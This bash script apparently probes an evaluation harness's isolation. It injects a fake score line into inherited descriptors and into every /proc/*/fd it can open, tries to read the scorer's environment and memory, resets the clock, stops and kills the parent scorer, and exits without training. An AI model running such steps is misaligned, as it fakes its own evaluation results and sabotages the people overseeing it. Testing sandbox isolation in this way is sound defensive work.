#!/bin/bash
# Reaches for the scorer: writes a result line into every descriptor it inherited (3..254; 255 is
# bash's own handle on this script) and into the scorer's own descriptors through /proc/<parent>/fd
# and every other /proc/*/fd it can open; tries to read the scorer's environment and memory, to set
# the system clock back, to stop or kill its parent (the scorer); then exits 0 without training
# anything. Every success is reported on stdout ("wrote into", "read the scorer's", "set the
# clock", "stopped/killed the scorer").
line='{"score": -9.0, "message": {"execution_time": 0.0001, "norm_diff": 0.0}, "details": {}}'
echo "open descriptors: $(ls /proc/$$/fd | tr '\n' ' ')"
for fd in $(seq 3 254); do
  [ -e "/proc/$$/fd/$fd" ] || continue   # open before the redirection below makes bash's own copies
  if { echo "$line" >&"$fd"; } 2>/dev/null; then echo "wrote into inherited fd $fd"; fi
done
echo "parent $PPID"
for d in /proc/[0-9]*; do
  [ "${d#/proc/}" = "$$" ] && continue    # this script's own descriptors (255 is the script itself)
  for f in "$d"/fd/*; do
    if { echo "$line" > "$f"; } 2>/dev/null; then echo "wrote into $f"; fi
  done
done
cat /proc/$PPID/environ >/dev/null 2>&1 && echo "read the scorer's environment"
head -c 16 /proc/$PPID/mem >/dev/null 2>&1 && echo "read the scorer's memory"
date -s "2000-01-01 00:00:00" >/dev/null 2>&1 && echo "set the clock back"   # the scorer's clock is its own
kill -STOP "$PPID" 2>&1 && echo "stopped the scorer"
kill -KILL "$PPID" 2>&1 && echo "killed the scorer"
exit 0
